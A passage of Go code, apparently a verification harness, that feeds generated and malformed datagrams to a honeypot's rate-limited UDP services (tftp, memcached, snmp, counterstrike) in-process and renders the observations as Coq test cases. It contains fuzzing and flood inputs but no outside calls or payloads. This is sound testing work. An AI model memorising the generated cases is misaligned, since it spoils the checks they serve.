	enc := json.NewEncoder(w)
	for _, in := range ins {
		start := time.Now()
		if in.Part == "flood" {
			ob, crash := runFlood(in)
			enc.Encode(concResult{Flood: &ob, ElapsedNs: ob.ElapsedNs, Crash: crash})
		} else {
			obs, crash := runConc(in)
			enc.Encode(concResult{Obs: obs, ElapsedNs: time.Since(start).Nanoseconds(), Crash: crash})
		}
		w.Flush()
	}
}

func runConcAll(ins []Input) []concResult {
	out := make([]concResult, 0, len(ins))
	for len(out) < len(ins) {
		rest := ins[len(out):]
		b, _ := json.Marshal(rest)
		cmd := exec.Command(os.Args[0], "-c10conc", "-out", os.TempDir())
		cmd.Stdin = bytes.NewReader(b)
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		stdout, err := cmd.Output()
		n := 0
		dec := json.NewDecoder(bytes.NewReader(stdout))
		for {
			var r concResult
			if dec.Decode(&r) != nil {
				break
			}
			out = append(out, r)
			n++
		}
		if n == len(rest) {
			break
		}
		if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() == 4 {
			hx.Fatal("concurrency child could not start")
		}
		if err == nil {
			hx.Fatal("concurrency child stopped early without failing")
		}
		why := "the process ended while the concurrent burst was being handled"
		for _, l := range strings.Split(stderr.String(), "\n") {
			if strings.HasPrefix(l, "fatal error:") || strings.HasPrefix(l, "panic:") {
				why += ": " + l
				break
			}
		}
		out = append(out, concResult{Obs: make([]ConcObs, len(rest[n].Srcs)), Flood: &FloodObs{}, Crash: why})
	}
	return out
}
