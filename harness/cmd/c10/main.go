// C10 harness: the four rate-limited UDP services (tftp, memcached, snmp, counterstrike)
// driven the way the server drives them - listener.DummyUDPConn wrapped in
// server.TimeoutConn - with histories of datagrams from one or several source
// addresses; the reply callback records every response datagram per source.
// Second part: golang.org/x/time/rate itself, with the constants read from
// services/limiter.go, under synthetic clocks (refill behaviour).
package main

import (
	"context"
	"flag"
	"fmt"
	"io/ioutil"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/Logicalis/asn1"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
	"github.com/honeytrap/honeytrap/services/snmp"
	logging "github.com/op/go-logging"
	"golang.org/x/time/rate"

	"verif/harness/hx"
)

// ---- inputs / observations ----

type Dgram struct {
	IP      string `json:"ip"`              // textual source address
	Short   bool   `json:"short,omitempty"` // IPv4 given to the service in its 4-byte form
	Port    int    `json:"port"`
	Payload hx.B   `json:"payload"`
}

type Input struct {
	Part  string  `json:"part"` // svc | rate | consts | conc
	Svc   string  `json:"svc,omitempty"`
	H     []Dgram `json:"h,omitempty"`
	Times []int64 `json:"times,omitempty"` // rate: clock readings in ns relative to a base
	// conc: the same payload from each of Srcs, N datagrams handled concurrently, then After one by one
	Payload hx.B     `json:"payload,omitempty"`
	Srcs    []string `json:"srcs,omitempty"`
	N       int      `json:"n,omitempty"`
	After   int      `json:"after,omitempty"`
	// lim / flood: long call sequences, run-length described (flood also uses Payload)
	Segs []Seg `json:"segs,omitempty"`
}

type DObs struct {
	T       int64 `json:"t"`       // ns since the service instance was created
	Replies []int `json:"replies"` // one projection code per response datagram, in order
	Panic   bool  `json:"panic,omitempty"`
	Reached bool  `json:"reached,omitempty"` // snmp: request event (sent just before Allow) seen
	Err     bool  `json:"err,omitempty"`     // Handle returned an error
	Alone   []int `json:"alone"`             // replies to the same datagram when only this source's datagrams are replayed on a fresh instance
}

type recChan struct {
	mu      sync.Mutex
	evs     []event.Event
	discard bool // long runs: only remember whether a request event was seen
	saw     bool
}

func isRequest(e event.Event) bool {
	switch e.Get("type") {
	case "get-request", "get-next-request", "set-request":
		return true
	}
	return false
}

func (c *recChan) Send(e event.Event) {
	c.mu.Lock()
	if c.discard {
		c.saw = c.saw || isRequest(e)
	} else {
		c.evs = append(c.evs, e)
	}
	c.mu.Unlock()
}

func (c *recChan) reset() {
	c.mu.Lock()
	c.evs = c.evs[:0]
	c.mu.Unlock()
}

// sawRequest: an snmp request event (sent just before Allow) was recorded
func (c *recChan) sawRequest() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.saw {
		return true
	}
	for _, e := range c.evs {
		if isRequest(e) {
			return true
		}
	}
	return false
}

func (d Dgram) raddr() *net.UDPAddr {
	ip := net.ParseIP(d.IP)
	if ip == nil {
		hx.Fatal("bad ip %q", d.IP)
	}
	if d.Short {
		if v4 := ip.To4(); v4 != nil {
			ip = v4
		}
	}
	return &net.UDPAddr{IP: ip, Port: d.Port}
}

func (d Dgram) ip16() []byte { return []byte(net.ParseIP(d.IP).To16()) }

var svcPort = map[string]int{"tftp": 69, "memcached": 11211, "snmp": 161, "counterstrike": 27015}

func replyCode(svc string, b []byte) int {
	at := func(i int) int {
		if i < len(b) {
			return int(b[i])
		}
		return 0
	}
	switch svc {
	case "tftp":
		return at(1)<<16 | at(2)<<8 | at(3)
	case "memcached":
		s := string(b)
		switch {
		case strings.HasPrefix(s, "OK"):
			return 1
		case strings.HasPrefix(s, "\nSTAT"):
			return 2
		case strings.HasPrefix(s, "STORED"):
			return 3
		case strings.HasPrefix(s, "ERROR"):
			return 4
		}
		return 99
	}
	return 1
}

// runHistory feeds the datagrams one after the other to one new service instance.
func runHistory(svc string, h []Dgram) ([]DObs, string) {
	fn, ok := services.Get(svc)
	if !ok {
		hx.Fatal("service %q is not registered", svc)
	}
	ch := &recChan{}
	s := fn(services.WithChannel(ch))
	start := time.Now()
	obs := make([]DObs, len(h))
	for i, d := range h {
		ra := d.raddr()
		var replies []int
		wrongDest := false
		conn := &listener.DummyUDPConn{
			Buffer: append([]byte(nil), d.Payload...),
			Laddr:  &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: svcPort[svc]},
			Raddr:  ra,
			Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
				if addr == nil || !addr.IP.Equal(ra.IP) || addr.Port != ra.Port {
					wrongDest = true
				}
				replies = append(replies, replyCode(svc, b))
				return len(b), nil
			},
		}
		ch.reset()
		done := make(chan bool, 1)
		var herr error
		t := time.Since(start).Nanoseconds()
		go func() {
			panicked := false
			defer func() {
				if r := recover(); r != nil {
					panicked = true
				}
				done <- panicked
			}()
			herr = s.Handle(context.Background(), server.TimeoutConn(conn, 30*time.Second))
		}()
		select {
		case p := <-done:
			obs[i].Panic = p
			obs[i].Err = herr != nil
		case <-time.After(20 * time.Second):
			return obs, fmt.Sprintf("Handle did not return for datagram %d", i)
		}
		obs[i].T = t
		obs[i].Replies = append([]int{}, replies...)
		obs[i].Reached = ch.sawRequest()
		if wrongDest {
			return obs, fmt.Sprintf("datagram %d: a response was addressed to another address than the request's source", i)
		}
	}
	return obs, ""
}

func runCase(in Input) ([]DObs, string) {
	obs, crash := runHistory(in.Svc, in.H)
	if crash != "" {
		return obs, crash
	}
	// each source alone, on a fresh instance
	seen := map[string]bool{}
	for _, d := range in.H {
		k := string(d.ip16())
		if seen[k] {
			continue
		}
		seen[k] = true
		var sub []Dgram
		var idx []int
		for j, e := range in.H {
			if string(e.ip16()) == k {
				sub = append(sub, e)
				idx = append(idx, j)
			}
		}
		o2, crash := runHistory(in.Svc, sub)
		if crash != "" {
			return obs, "alone: " + crash
		}
		for n, j := range idx {
			obs[j].Alone = o2[n].Replies
		}
	}
	return obs, ""
}

// ---- Coq rendering ----

func coqCodes(xs []int) string {
	var es []string
	for _, x := range xs {
		es = append(es, hx.CoqN(uint64(x)))
	}
	return hx.CoqList(es, "N")
}

var svcCoq = map[string]string{"tftp": "Tftp", "memcached": "Memcached", "snmp": "Snmp", "counterstrike": "CStrike"}

// coqPacked renders a byte string as (unpack len [w1; w2; ...]) with 7 bytes per
// primitive 63-bit integer: coqc reads this an order of magnitude faster than a list
// of N literals.
func coqPacked(b []byte) string {
	if len(b) == 0 {
		return "(@nil N)"
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "(unpack %d%%Z [", len(b))
	for i := 0; i < len(b); i += 7 {
		j := i + 7
		if j > len(b) {
			j = len(b)
		}
		var w uint64
		for _, x := range b[i:j] {
			w = w<<8 | uint64(x)
		}
		if i > 0 {
			sb.WriteString(";")
		}
		fmt.Fprintf(&sb, "0x%x", w)
	}
	sb.WriteString("]%uint63)")
	return sb.String()
}

// source addresses are defined once in the shard header: SRCn = (key text, 16-byte form)
var srcNames = map[string]string{}
var srcDefs []string

func srcName(key string, ip16 []byte) string {
	k := key + "|" + string(ip16)
	if n, ok := srcNames[k]; ok {
		return n
	}
	n := fmt.Sprintf("SRC%d", len(srcNames))
	srcNames[k] = n
	srcDefs = append(srcDefs, fmt.Sprintf("Definition %s : bytes * bytes := (%s, %s).", n, hx.CoqStr(key), hx.CoqBytes(ip16)))
	return n
}

func coqSvcCase(id int, in Input, obs []DObs, exact bool) string {
	var es []string
	for i, d := range in.H {
		o := obs[i]
		oracle := 0
		if o.Reached && o.Panic {
			oracle = 3
		} else if o.Reached && o.Err {
			oracle = 4
		} else if o.Reached {
			oracle = 1
		} else if o.Panic && in.Svc == "snmp" {
			oracle = 2
		}
		src := srcName(d.raddr().IP.String(), d.ip16())
		es = append(es, fmt.Sprintf("(mkD (fst %s) %s %s (@nil Z) %s %s, mkO (snd %s) %s %s %s)",
			src, hx.CoqZ(int64(d.Port)), hx.CoqZ(o.T), hx.CoqN(uint64(oracle)), coqPacked(d.Payload),
			src, coqCodes(o.Replies), hx.CoqBool(o.Panic), coqCodes(o.Alone)))
	}
	return fmt.Sprintf("CS (mkS %s %s %s %s)", hx.CoqN(uint64(id)), svcCoq[in.Svc], hx.CoqBool(exact),
		hx.CoqList(es, "(dgram * dobs)"))
}

// ---- generators ----

var ipPool = []string{"198.51.100.7", "198.51.100.8", "203.0.113.9", "2001:db8::1", "2001:db8::2", "2001:db8:0:1::1",
	"fe80::1", "10.0.0.1", "::ffff:198.51.100.7", "2001:db8::1:0:0:1", "::1", "255.255.255.255"}

var alnum = []byte("abcdefghijklmnopqrstuvwxyz0123456789._-/")

func nulstr(r *hx.Rand, max int) []byte { return append(r.BytesFrom(r.Intn(max+1), alnum), 0) }

func genTftp(r *hx.Rand, replying bool) []byte {
	k := r.Intn(20)
	if replying {
		k = r.Intn(9)
	}
	modes := []string{"octet", "netascii", "mail", ""}
	switch {
	case k < 4: // RRQ
		p := append([]byte{0, 1}, nulstr(r, 12)...)
		return append(append(p, r.PickStr(modes)...), 0)
	case k < 6: // WRQ
		p := append([]byte{0, 2}, nulstr(r, 12)...)
		return append(append(p, r.PickStr(modes)...), 0)
	case k < 9: // DATA
		n := r.PickInt([]int{0, 1, 10, 100, 511, 512, 512, 513, 600})
		return append([]byte{0, 3, byte(r.Intn(3)), byte(r.Intn(256))}, r.Bytes(n)...)
	case k < 11: // ACK
		return []byte{0, 4, 0, byte(r.Intn(4))}
	case k == 11: // ERROR
		return append([]byte{0, 5, 0, byte(r.Intn(8))}, nulstr(r, 10)...)
	case k == 12: // RRQ / WRQ without the terminating NULs
		p := append([]byte{0, byte(1 + r.Intn(2))}, r.BytesFrom(r.Intn(10), alnum)...)
		if r.Bool() {
			p = append(append(p, 0), r.BytesFrom(r.Intn(6), alnum)...)
		}
		return p
	case k == 13: // short
		return r.Bytes(r.Intn(4))
	case k == 14: // DATA cut inside its header
		return []byte{0, 3, 7}[:2+r.Intn(2)]
	case k == 15: // unknown opcode / non-zero first byte
		return append([]byte{byte(r.Intn(256)), byte(r.Intn(256))}, r.Bytes(r.Intn(20))...)
	case k == 16: // RRQ with option extensions
		p := append([]byte{0, 1}, nulstr(r, 8)...)
		p = append(append(p, "octet"...), 0)
		return append(append(append(p, "blksize"...), 0), '1', '4', '2', '8', 0)
	case k == 17: // large request
		p := append([]byte{0, byte(1 + r.Intn(3))}, r.BytesFrom(r.PickInt([]int{4090, 4096, 5000, 9000}), alnum)...)
		return append(p, 0, 'x', 0)
	case k == 18:
		return []byte{}
	}
	return r.Bytes(r.Intn(40))
}

func mcHeader(r *hx.Rand) []byte {
	switch r.Intn(10) {
	case 0:
		return r.Bytes(8)
	case 1:
		return r.Bytes(r.Intn(8)) // short frame header
	}
	return []byte{byte(r.Intn(256)), byte(r.Intn(256)), 0, 0, 0, 1, 0, 0}
}

func mcCommand(r *hx.Rand, replying bool) []byte {
	eol := "\r\n"
	if !replying && r.Chance(1, 8) {
		eol = r.PickStr([]string{"\n", "\r\r\n", " \n", "\r\n\r\n"})
	}
	key := string(r.BytesFrom(1+r.Intn(8), alnum[:36]))
	k := r.Intn(22)
	if replying {
		k = r.Intn(12)
	}
	switch {
	case k < 3:
		return []byte("stats" + eol)
	case k < 5:
		return []byte("flush_all" + eol)
	case k < 7:
		return []byte("get " + key + eol)
	case k < 12: // storage command with its data block
		verb := r.PickStr([]string{"set", "add", "replace", "append", "prepend", "cas"})
		n := r.PickInt([]int{0, 1, 5, 5, 79, 80, 81, 200})
		if r.Chance(1, 40) {
			n = r.PickInt([]int{4000, 4090, 5000, 9000}) // beyond one bufio buffer
		}
		data := string(r.BytesFrom(n, alnum[:36]))
		cnt := fmt.Sprint(n)
		if !replying {
			switch r.Intn(8) {
			case 0:
				cnt = fmt.Sprint(n + r.Range(1, 300)) // announces more than it carries: swallows later commands
			case 1:
				cnt = fmt.Sprint(r.Intn(n + 1)) // announces less: the tail becomes a command
			case 2:
				cnt = r.PickStr([]string{"-1", "-5", "+5", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
					"99999999999999999999", "00000000000000000000005", "18446744073709551616"})
			}
		}
		return []byte(fmt.Sprintf("%s %s %d %d %s%s%s%s", verb, key, r.Intn(4), r.Intn(100), cnt, eol, data, eol))
	case k == 12: // too few arguments
		return []byte(r.PickStr([]string{"set", "add", "cas"}) + " " + key + r.PickStr([]string{"", " 0", " 0 0"}) + eol)
	case k == 13: // byte count not a number
		return []byte("set " + key + " 0 0 " + r.PickStr([]string{"x", "", "5x", "0x10", "1_0", "+", "-", " 5", "５"}) + eol)
	case k == 14:
		return []byte(eol)
	case k == 15:
		return []byte(r.PickStr([]string{"version", "quit", "verbosity 1", "gets a b c", "delete " + key, "incr " + key + " 1", "STATS", "stats items", " stats", "stats\t"}) + eol)
	case k == 16:
		return []byte("stats") // no end of line
	case k == 17:
		return []byte("set " + key + " 0 0 3 noreply" + eol + "abc" + eol)
	case k == 18:
		return r.Bytes(r.Intn(30))
	case k == 19:
		return []byte("stats\n") // bare LF: two bytes are stripped all the same
	}
	return append(r.BytesFrom(r.Intn(20), alnum), eol...)
}

func genMemcached(r *hx.Rand, replying bool) []byte {
	p := mcHeader(r)
	if replying {
		p = []byte{0, 1, 0, 0, 0, 1, 0, 0}
	}
	n := 1
	switch r.Intn(6) {
	case 0:
		n = r.Range(2, 4)
	case 1:
		n = r.Range(2, 12)
	}
	if !replying && r.Chance(1, 25) {
		n = 0
	}
	for i := 0; i < n; i++ {
		p = append(p, mcCommand(r, replying)...)
	}
	return p
}

func snmpMsg(r *hx.Rand, version int, pdu interface{}) []byte {
	ctx := snmp.Asn1Context()
	b, err := ctx.Encode(snmp.Message{Version: version, Community: r.PickStr([]string{"public", "private", "", "c0mmunity"}), Pdu: pdu})
	if err != nil {
		hx.Fatal("snmp encode: %v", err)
	}
	return b
}

func snmpVars(r *hx.Rand) []snmp.Variable {
	oids := []asn1.Oid{{1, 3, 6, 1, 2, 1, 1, 1, 0}, {1, 3, 6, 1, 2, 1, 1, 5, 0}, {1, 3, 6, 1, 2, 1, 2, 2, 1, 10, 1}, {1, 3, 6, 1, 4, 1, 9, 2, 1, 57, 0}, {1, 3}}
	var vs []snmp.Variable
	for i, n := 0, r.PickInt([]int{0, 1, 1, 1, 2, 5, 20}); i < n; i++ {
		var val interface{} = asn1.Null{}
		switch r.Intn(6) {
		case 0:
			val = r.Intn(100000)
		case 1:
			val = string(r.BytesFrom(r.Intn(10), alnum))
		}
		vs = append(vs, snmp.Variable{Name: oids[r.Intn(len(oids))], Value: val})
	}
	return vs
}

func genSnmp(r *hx.Rand, replying bool) []byte {
	pdu := snmp.Pdu{Identifier: r.Intn(1 << 30), Variables: snmpVars(r)}
	k := r.Intn(20)
	if replying {
		k = r.Intn(9)
	}
	switch {
	case k < 4:
		return snmpMsg(r, 0, snmp.GetRequestPdu(pdu))
	case k < 7:
		return snmpMsg(r, 0, snmp.GetNextRequestPdu(pdu))
	case k < 9:
		return snmpMsg(r, 0, snmp.SetRequestPdu(pdu))
	case k == 9: // SNMPv2c / v3 version numbers
		return snmpMsg(r, r.PickInt([]int{1, 3, 2, 255}), snmp.GetRequestPdu(pdu))
	case k == 10: // v2 PDUs, responses
		switch r.Intn(3) {
		case 0:
			return snmpMsg(r, r.Intn(2), snmp.GetBulkRequestPdu(snmp.BulkPdu{Identifier: 1, MaxRepetitions: 50, Variables: snmpVars(r)}))
		case 1:
			return snmpMsg(r, 0, snmp.GetResponsePdu(pdu))
		}
		return snmpMsg(r, r.Intn(2), snmp.InformRequestPdu(pdu))
	case k == 11: // truncated
		b := snmpMsg(r, 0, snmp.GetRequestPdu(pdu))
		return b[:r.Intn(len(b))]
	case k == 12: // trailing bytes after the message
		return append(snmpMsg(r, 0, snmp.GetRequestPdu(pdu)), r.Bytes(1+r.Intn(8))...)
	case k == 13: // one byte damaged
		b := snmpMsg(r, 0, snmp.GetNextRequestPdu(pdu))
		b[r.Intn(len(b))] ^= byte(1 << uint(r.Intn(8)))
		return b
	case k == 14: // wrong outer length byte
		b := snmpMsg(r, 0, snmp.GetRequestPdu(pdu))
		if len(b) > 1 {
			b[1] = byte(r.Intn(256))
		}
		return b
	case k == 15:
		return r.Bytes(r.Intn(4))
	case k == 16: // long-form length
		return append([]byte{0x30, 0x82, 0x01, 0x00}, r.Bytes(r.Intn(300))...)
	}
	return r.Bytes(r.Intn(60))
}

func genCS(r *hx.Rand, replying bool) []byte {
	hdr := []byte{0xff, 0xff, 0xff, 0xff}
	k := r.Intn(20)
	if replying {
		k = r.Intn(10)
	}
	switch {
	case k < 5:
		return append(append(hdr, 0x54), "Source Engine Query\x00"...)
	case k < 8:
		return append(append(hdr, byte(r.PickInt([]int{0x55, 0x56, 0x57, 0x69}))), r.Bytes(r.Intn(8))...)
	case k < 10:
		return append(append(hdr, byte(r.Intn(256))), r.Bytes(r.Intn(20))...)
	case k == 10: // split-packet header
		return append([]byte{0xff, 0xff, 0xff, 0xfe, byte(r.Intn(256))}, r.Bytes(r.Intn(20))...)
	case k == 11: // header only: Handle indexes past it
		return []byte{0xff, 0xff, 0xff, byte(0xfe + r.Intn(2))}
	case k == 12:
		return []byte{0xff, 0xff, 0xff, 0xff}[:r.Intn(4)]
	case k == 13: // other header
		return append([]byte{0xff, 0xff, 0xff, byte(r.Intn(254))}, r.Bytes(r.Intn(10))...)
	case k == 14:
		return append(append(hdr, 0x54), r.Bytes(r.PickInt([]int{1018, 1019, 1020, 1500, 4200}))...)
	case k == 15:
		return append(hdr, 0x54)
	case k == 16:
		return []byte{}
	}
	return r.Bytes(r.Intn(30))
}

func genPayload(svc string, r *hx.Rand, replying bool) []byte {
	switch svc {
	case "tftp":
		return genTftp(r, replying)
	case "memcached":
		return genMemcached(r, replying)
	case "snmp":
		return genSnmp(r, replying)
	}
	return genCS(r, replying)
}

func pickIPs(r *hx.Rand, n int) []string {
	var out []string
	for len(out) < n {
		c := ipPool[r.Intn(len(ipPool))]
		dup := false
		for _, x := range out {
			if net.ParseIP(x).Equal(net.ParseIP(c)) {
				dup = true
			}
		}
		if !dup {
			out = append(out, c)
		}
	}
	return out
}

// genHistory: bursts of 1..200 datagrams from one address over varying source ports,
// or interleaved bursts from 2-3 addresses.
func genHistory(svc string, r *hx.Rand, maxLen int) (Input, string) {
	in := Input{Part: "svc", Svc: svc}
	nsrc := 1
	shape := "single"
	switch r.Intn(10) {
	case 0, 1, 2:
		nsrc, shape = 2, "two-sources"
	case 3, 4:
		nsrc, shape = 3, "three-sources"
	}
	ips := pickIPs(r, nsrc)
	if nsrc >= 2 && r.Chance(1, 3) { // two different IPv6 sources
		ips[0], ips[1] = "2001:db8::1", r.PickStr([]string{"2001:db8::2", "2001:db8:0:1::1", "2001:db8::1:0:0:1"})
		if nsrc == 3 && (ips[2] == ips[0] || ips[2] == ips[1]) {
			ips[2] = "198.51.100.7"
		}
		shape += "-v6"
	}
	total := r.PickInt([]int{1, 2, 3, 4, 5, 6, 8, 12, 20, 40, 80, 200})
	if total > maxLen {
		total = maxLen
	}
	// mostly requests that get an answer, so that the limit is actually reached
	replyNum := r.PickInt([]int{9, 9, 7, 5, 10})
	portMode := r.Intn(3) // 0: fixed port per source, 1: all different, 2: few ports
	basePort := r.Range(1024, 60000)
	for len(in.H) < total {
		src := r.Intn(nsrc)
		burst := 1
		if nsrc > 1 {
			burst = r.PickInt([]int{1, 1, 2, 3, 5, 9})
		}
		for b := 0; b < burst && len(in.H) < total; b++ {
			port := basePort + src
			switch portMode {
			case 1:
				port = r.Range(1, 65535)
			case 2:
				port = basePort + r.Intn(3)
			}
			d := Dgram{IP: ips[src], Port: port, Payload: genPayload(svc, r, r.Chance(replyNum, 10))}
			if net.ParseIP(d.IP).To4() != nil && r.Chance(1, 3) {
				d.Short = true
			}
			in.H = append(in.H, d)
		}
	}
	return in, shape
}

func corpus() []Input {
	rrq := hx.B("\x00\x01file\x00octet\x00")
	ack := hx.B("\x00\x04\x00\x01")
	info := hx.B("\xff\xff\xff\xffTSource Engine Query\x00")
	stats := hx.B("\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n")
	var out []Input
	rep := func(svc string, p hx.B, n int, ips ...string) Input {
		in := Input{Part: "svc", Svc: svc}
		for i := 0; i < n; i++ {
			in.H = append(in.H, Dgram{IP: ips[i%len(ips)], Port: 40000 + i, Payload: p})
		}
		return in
	}
	// the 4th answer is sent, the 5th is not; varying ports
	out = append(out, rep("tftp", rrq, 6, "198.51.100.7"), rep("counterstrike", info, 6, "2001:db8::1"), rep("memcached", stats, 6, "198.51.100.7"))
	// two IPv6 sources: independent allowances
	out = append(out, rep("tftp", rrq, 12, "2001:db8::1", "2001:db8::2"), rep("counterstrike", info, 12, "2001:db8::1", "2001:db8::1:0:0:1"))
	// requests without an answer use up the tftp allowance as well
	x := rep("tftp", ack, 4, "203.0.113.9")
	x.H = append(x.H, Dgram{IP: "203.0.113.9", Port: 5, Payload: rrq})
	out = append(out, x)
	// one memcached datagram with six commands: four answers
	mc := append(hx.B{}, stats[:8]...)
	for i := 0; i < 6; i++ {
		mc = append(mc, "stats\r\n"...)
	}
	out = append(out, rep("memcached", mc, 2, "198.51.100.8"))
	// the same IPv4 source in 4-byte and 16-byte form
	y := rep("counterstrike", info, 8, "198.51.100.7", "::ffff:198.51.100.7")
	for i := range y.H {
		y.H[i].Short = i%4 < 2
	}
	out = append(out, y)
	// write transfer: WRQ, full block, last block, stray DATA
	w := Input{Part: "svc", Svc: "tftp"}
	blk := make([]byte, 512)
	for _, p := range [][]byte{[]byte("\x00\x02up\x00octet\x00"), append([]byte{0, 3, 0, 1}, blk...), append([]byte{0, 3, 0, 2}, blk[:100]...), {0, 3, 0, 3, 1}} {
		w.H = append(w.H, Dgram{IP: "10.0.0.1", Port: 3333, Payload: p})
	}
	out = append(out, w)
	return out
}

func main() {
	logging.SetBackend(logging.NewLogBackend(ioutil.Discard, "", 0))
	child := flag.Bool("c10screen", false, "internal: screening child")
	concChildFlag := flag.Bool("c10conc", false, "internal: child handling concurrent bursts")
	o := hx.ParseArgs()
	if *child {
		screenChild()
		return
	}
	if *concChildFlag {
		concChild()
		return
	}
	r := hx.NewRand(o.Seed)

	repo := os.Getenv("VERIF_REPO")
	if repo == "" {
		repo = "/repo"
	}
	interval, burst, err := limiterConsts(filepath.Join(repo, "services", "limiter.go"))
	constsFromSource := true
	if err != nil {
		// the constructor no longer has the shape the reader understands (a rewrite, not by itself a
		// violation): take the values the property states (burst four, one token per ten minutes).
		// The burst is still observed on the real services and the real Limiter below; what can go
		// unnoticed in this fallback is a shorter refill interval written in a shape unknown here.
		fmt.Fprintf(os.Stderr, "c10: limiter constants not readable from the source (%v): using the property's values\n", err)
		interval, burst, constsFromSource = int64(10*60*1e9), 4, false
	}

	var inputs []Input
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		inputs = []Input{in}
	} else {
		inputs = append(inputs, Input{Part: "consts"})
		inputs = append(inputs, corpus()...)
		inputs = append(inputs, fieldCorpus(r)...)
		per, maxLen, nrate, nconc, nsrc := 110, 200, 200, 6, 60
		switch o.Tier {
		case "thorough":
			per, nrate, nconc, nsrc = 1600, 2500, 40, 80
		case "search":
			per, nrate, nconc, nsrc = 500, 600, 15, 80
		}
		// long histories: one flooding address, alone and among up to 5000 others
		flood := 10000
		if o.Tier == "thorough" {
			flood = 100000
		}
		for _, others := range []int{0, 1, 40, 1000, 5000} {
			inputs = append(inputs, Input{Part: "lim", Segs: genSegs(r, flood, others)})
		}
		for i := 0; i < 6; i++ {
			inputs = append(inputs, Input{Part: "lim", Segs: genSegs(r, r.PickInt([]int{4090, 4097, 5000, 8200, 12300}), r.PickInt([]int{0, 1, 2, 7, 100, 600}))})
		}
		for _, svc := range []string{"tftp", "memcached", "snmp", "counterstrike"} {
			p := floodPayload[svc]
			if svc == "snmp" {
				p = snmpRaw(snmpFields{version: [2]int64{0, 1}, reqid: [2]int64{7, 1}, errStatus: [2]int64{0, 1}, errIndex: [2]int64{0, 1}, pduTag: 0xa0})
			}
			for _, others := range []int{0, r.PickInt([]int{1, 3, 50}), 5000} {
				inputs = append(inputs, Input{Part: "flood", Svc: svc, Payload: p, Segs: genSegs(r, flood, others)})
			}
		}
		for i := 0; i < nconc; i++ {
			for _, svc := range []string{"tftp", "memcached", "snmp", "counterstrike"} {
				inputs = append(inputs, genConc(svc, r, nsrc))
			}
		}
		for i := 0; i < per; i++ {
			for _, svc := range []string{"tftp", "memcached", "snmp", "counterstrike"} {
				in, _ := genHistory(svc, r, maxLen)
				inputs = append(inputs, in)
			}
		}
		for i := 0; i < nrate; i++ {
			inputs = append(inputs, Input{Part: "rate", Times: genTimes(r, interval, burst)})
		}
	}

	distS, distR, distX := map[string]int{}, map[string]int{}, map[string]int{}
	distL, distF := map[string]int{}, map[string]int{}
	var concCases, limCases, floodCases []hx.Case
	extra := map[string]interface{}{"interval_ns": interval, "burst": burst}
	// snmp payloads are first handled in a child process (see screen.go): one that ends
	// the process is not run here; its case is reported as a crash
	fatalCase := map[int]string{}
	type spRef struct{ input, dgram int }
	var sp [][]byte
	var refs []spRef
	for i, in := range inputs {
		if in.Svc != "snmp" {
			continue
		}
		switch in.Part {
		case "svc":
			for j, d := range in.H {
				sp, refs = append(sp, d.Payload), append(refs, spRef{i, j})
			}
		case "conc", "flood":
			sp, refs = append(sp, in.Payload), append(refs, spRef{i, 0})
		}
	}
	if len(sp) > 0 {
		for n, bad := range screen(sp) {
			if !bad {
				continue
			}
			distS["snmp:process-fatal-payload"]++
			if _, ok := fatalCase[refs[n].input]; !ok {
				fatalCase[refs[n].input] = fmt.Sprintf("datagram %d (%x) ends the whole process (seen in a child process with a 4 GiB address-space limit)", refs[n].dgram, sp[n])
			}
		}
	}
	// the concurrent bursts run in a child process (see conc.go)
	concRes := map[int]concResult{}
	{
		var ins []Input
		var idx []int
		for i, in := range inputs {
			if in.Part == "conc" || in.Part == "flood" {
				if why, bad := fatalCase[i]; bad {
					concRes[i] = concResult{Obs: make([]ConcObs, len(in.Srcs)), Flood: &FloodObs{}, Crash: why}
				} else {
					ins, idx = append(ins, in), append(idx, i)
				}
			}
		}
		if len(ins) > 0 {
			for n, r := range runConcAll(ins) {
				concRes[idx[n]] = r
			}
		}
	}
	var svcCases, rateCases []hx.Case
	for inIdx, in := range inputs {
		switch in.Part {
		case "consts":
			id := len(svcCases)
			distS["consts"]++
			if !constsFromSource {
				distS["consts:not-readable-from-source,property-values-assumed"]++
			}
			svcCases = append(svcCases, hx.Case{ID: id, Kind: "consts", Input: in,
				Obs: map[string]interface{}{"interval_ns": interval, "burst": burst},
				Coq: fmt.Sprintf("CC (mkC %s %s %s)", hx.CoqN(uint64(id)), hx.CoqZ(interval), hx.CoqZ(int64(burst)))})
		case "svc":
			id := len(svcCases)
			var obs []DObs
			var crash string
			if why, bad := fatalCase[inIdx]; bad {
				obs, crash = make([]DObs, len(in.H)), why
			} else {
				obs, crash = runCase(in)
			}
			exact := true
			nrep, srcs := 0, map[string]bool{}
			for i, d := range in.H {
				nrep += len(obs[i].Replies)
				srcs[string(d.ip16())] = true
			}
			distS[in.Svc]++
			distS[fmt.Sprintf("sources=%d", len(srcs))]++
			switch {
			case nrep == 0:
				distS["replies=0"]++
			case nrep < 4*len(srcs):
				distS["replies<allowance"]++
			default:
				distS["allowance-exhausted"]++
			}
			switch n := len(in.H); {
			case n <= 4:
				distS["len<=4"]++
			case n <= 20:
				distS["len5-20"]++
			default:
				distS["len>20"]++
			}
			svcCases = append(svcCases, hx.Case{ID: id, Kind: in.Svc, Input: in, Obs: obs, Crash: crash, Coq: coqSvcCase(id, in, obs, exact)})
		case "rate":
			id := len(rateCases)
			lim := rate.NewLimiter(rate.Every(time.Duration(interval)), burst)
			base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
			var got []bool
			var ts, gs []string
			ng := 0
			for _, t := range in.Times {
				g := lim.AllowN(base.Add(time.Duration(t)), 1)
				got = append(got, g)
				if g {
					ng++
				}
				ts = append(ts, hx.CoqZ(t))
				gs = append(gs, hx.CoqBool(g))
			}
			switch {
			case ng <= burst:
				distR["grants<=burst"]++
			default:
				distR["refilled"]++
			}
